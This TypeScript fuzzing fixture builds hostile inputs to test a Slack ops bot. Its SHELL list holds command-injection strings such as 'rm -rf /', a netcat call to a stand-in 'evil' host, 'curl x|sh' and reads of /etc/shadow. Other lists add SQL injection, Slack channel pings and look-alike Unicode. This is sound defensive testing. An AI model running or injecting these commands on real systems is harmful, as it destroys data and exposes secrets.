/**
 * Hostile strings for the bad-input suite: what a person (or a forger) can put where the bot
 * expects a cluster name, a node name, a run id or a reason. Shell metacharacters, very long
 * strings, every plane of unicode, right-to-left overrides, control characters and NUL, Slack
 * mrkdwn that would ping a channel, and near misses of the real names.
 */
import fc from 'fast-check';

const SHELL = [
  '; rm -rf /',
  '$(reboot)',
  '`id`',
  '| nc evil 9',
  '&& curl x|sh',
  '> /etc/passwd',
  "'; DROP TABLE runs; --",
  '${IFS}cat${IFS}/etc/shadow',
  '\\',
  '"',
  "'",
  '*',
  '?',
  '~root',
  '../../etc/passwd',
  '%00',
  '%s%s%s%n',
  '{{7*7}}',
  '<script>',
];

const SLACK_MARKUP = [
  '<!channel>',
  '<!here>',
  '<@U0BOB>',
  '<#C0OPS>',
  '<!subteam^S0SRE>',
  '*bold*',
];

/** Right-to-left and invisible controls that make a name read as another one. */
const UNICODE_TRAPS = [
  '\u202e', // right-to-left override
  '\u202d',
  '\u2066',
  '\u200f',
  '\u200b', // zero-width space
  '\u200d',
  '\ufeff',
  '\u00a0',
  '\u3000',
  '\u0301', // combining acute
  'ﬁ', // ligature, lower-cases to itself
  'İ', // lower-cases to two code points
  'ǅ',
  '\ud83d\ude80', // astral
  '\ud800', // lone surrogate
  '\udfff',
  'кластер', // Cyrillic look-alikes
  'сluster-a', // Cyrillic с
  'שלום',
  'مرحبا',
];

const CONTROL = [
  '\u0000',
  '\u0001',
  '\u0007',
  '\b',
  '\t',
  '\n',
  '\r',
  '\u000b',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u2028',
  '\u2029',
];

const NEAR_MISSES = [
  'cluster-A',
  'CLUSTER-A',
  'cluster-a.',
  'cluster_a',
  'clustera',
  'cluster-b',
  'cluster-c',
  'blue-1.',
  'Blue-1',
  'blue-1 ',
  'blue-99',
  'ghost-node',
  'cp-1-',
  '-blue-1',
  'a'.repeat(254),
  'a.'.repeat(130),
  'co-',
  'co-abcd',
];

/** One hostile piece: a trap, or random text of any unicode. */
const piece: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc.constantFrom(...SHELL, ...SLACK_MARKUP, ...UNICODE_TRAPS, ...CONTROL),
    weight: 4,
  },
  { arbitrary: fc.constantFrom(...NEAR_MISSES), weight: 2 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 12 }), weight: 2 },
  { arbitrary: fc.stringMatching(/^[a-z0-9-]{1,20}$/), weight: 1 },
);

/** A hostile string of a few pieces, sometimes very long (up to ~12 000 characters). */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc.array(piece, { minLength: 1, maxLength: 4 }).map((parts) => parts.join('')),
    weight: 8,
  },
  {
    arbitrary: fc
      .tuple(piece, fc.integer({ min: 200, max: 3_000 }))
      .map(([p, times]) => (p === '' ? 'x' : p).repeat(times).slice(0, 12_000)),
    weight: 1,
  },
);

/** A hostile word: like {@link hostileString}, but never empty. */
export const hostileWord: fc.Arbitrary<string> = hostileString.map((s) =>
  s === '' ? '\u0000' : s,
);

/** A name that is a valid DNS label (so it passes syntax) but names nothing that exists. */
export const unknownDnsName: fc.Arbitrary<string> = fc
  .stringMatching(/^[a-z][a-z0-9-]{0,30}[a-z0-9]$/)
  .map((name) => `zz-${name}`);
